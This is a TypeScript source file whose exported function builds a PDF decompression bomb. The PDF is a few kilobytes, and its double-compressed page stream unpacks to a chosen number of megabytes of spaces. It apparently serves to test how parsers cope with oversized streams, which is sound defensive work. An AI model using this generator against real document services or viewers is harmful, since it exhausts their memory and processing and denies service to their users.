import { constants, deflateRawSync, deflateSync } from 'node:zlib';

/** A PDF of some kilobytes whose one page, unpacked twice as it asks for, comes to so many megabytes of spaces. */
export function pdfBomb(megabytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(1_000_000, ' '), { finishFlush: constants.Z_FULL_FLUSH });
  const begin = Buffer.from([0x78, 0x9c]);
  const end = Buffer.from([0x03, 0x00]);
  const packed = deflateSync(Buffer.concat([begin, ...Array<Buffer>(megabytes).fill(block), end]));
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> /Contents 4 0 R >>',
    `<< /Length ${packed.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n${packed.toString('latin1')}\nendstream`,
  ];
  let file = '%PDF-1.4\n';
  const places = objects.map((object, index) => {
    const place = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const table = file.length;
  file += `xref\n0 5\n0000000000 65535 f \n${places.join('')}`;
  return Buffer.from(`${file}trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`, 'latin1');
}
